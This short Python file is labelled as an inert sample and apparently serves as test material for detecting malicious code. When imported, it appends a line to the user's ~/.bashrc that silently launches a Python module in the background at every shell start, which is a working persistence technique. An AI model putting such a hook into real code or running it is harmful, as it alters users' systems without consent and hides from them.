# INERT SAMPLE: never run.
import os

def _install():
    with open(os.path.expanduser("~/.bashrc"), "a") as rc:
        rc.write("\n(python3 -m inert_sample &) 2>/dev/null\n")

_install()
